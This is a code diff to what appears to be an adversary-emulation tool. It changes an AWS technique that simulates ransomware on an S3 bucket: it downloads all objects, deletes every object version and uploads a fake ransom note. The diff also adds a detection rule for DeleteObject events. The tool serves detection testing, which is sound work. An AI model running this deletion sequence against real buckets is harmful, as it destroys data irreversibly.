@@ -91,9 +91,18 @@ Sample CloudTrail event <code>DeleteObject</code>, shortened for readability:
 }
 ` + CodeBlock + `
 `,
-		Platform:           stratus.AWS,
-		IsIdempotent:       false, // ransomware cannot be reverted :)
-		MitreAttackTactics: []mitreattack.Tactic{mitreattack.Impact},
+		Impact:                stratus.ImpactDestructive,
+		Platform:              stratus.AWS,
+		IsIdempotent:          false, // ransomware cannot be reverted :)
+		MitreAttackTactics:    []mitreattack.Tactic{mitreattack.Impact},
+		MitreAttackTechniques: []string{"T1485"},
+		DetectionRule: &stratus.DetectionRule{
+			Selections: []stratus.DetectionSelection{
+				{"eventSource": {"s3.amazonaws.com"}, "eventName": {"DeleteObject"}},
+			},
+			Level:          stratus.DetectionLevelInformational,
+			FalsePositives: []string{"Applications deleting objects"},
+		},
 		FrameworkMappings: []stratus.FrameworkMappings{
 			{
 				Framework: stratus.ThreatTechniqueCatalogAWS,
@@ -107,41 +116,41 @@ Sample CloudTrail event <code>DeleteObject</code>, shortened for readability:
 			},
 		},
 		PrerequisitesTerraformCode: tf,
-		Detonate:                   detonate,
+		DetonateWithContext:        detonate,
 	})
 }
 
-func detonate(params map[string]string, providers stratus.CloudProviders) error {
+func detonate(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	bucketName := params["bucket_name"]
 	s3Client := s3.NewFromConfig(providers.AWS().GetConnection())
 
 	log.Println("Simulating a ransomware attack on bucket " + bucketName)
 
-	if err := utils.DownloadAllObjects(s3Client, bucketName); err != nil {
+	if err := utils.DownloadAllObjects(ctx, s3Client, bucketName); err != nil {
 		return fmt.Errorf("failed to download bucket objects")
 	}
 
-	if err := removeAllObjects(s3Client, bucketName); err != nil {
+	if err := removeAllObjects(ctx, s3Client, bucketName); err != nil {
 		return fmt.Errorf("failed to remove objects in the bucket: %w", err)
 	}
 
 	log.Println("Uploading fake ransom note")
-	if err := utils.UploadFile(s3Client, bucketName, RansomNoteFilename, strings.NewReader(RansomNoteContents)); err != nil {
+	if err := utils.UploadFile(ctx, s3Client, bucketName, RansomNoteFilename, strings.NewReader(RansomNoteContents)); err != nil {
 		return fmt.Errorf("failed to upload ransom note to the bucket: %w", err)
 	}
 
 	return nil
 }
 
-func removeAllObjects(s3Client *s3.Client, bucketName string) error {
-	objects, err := utils.ListAllObjectVersions(s3Client, bucketName)
+func removeAllObjects(ctx context.Context, s3Client *s3.Client, bucketName string) error {
+	objects, err := utils.ListAllObjectVersions(ctx, s3Client, bucketName)
 	if err != nil {
 		return fmt.Errorf("unable to list bucket objects: %w", err)
 	}
 	log.Println("Found " + strconv.Itoa(len(objects)) + " object versions to delete")
 	log.Println("Removing all objects one by one individually")
 	for _, object := range objects {
-		_, err := s3Client.DeleteObject(context.Background(), &s3.DeleteObjectInput{
+		_, err := s3Client.DeleteObject(ctx, &s3.DeleteObjectInput{
 			Bucket:    &bucketName,
 			Key:       object.Key,
 			VersionId: object.VersionId,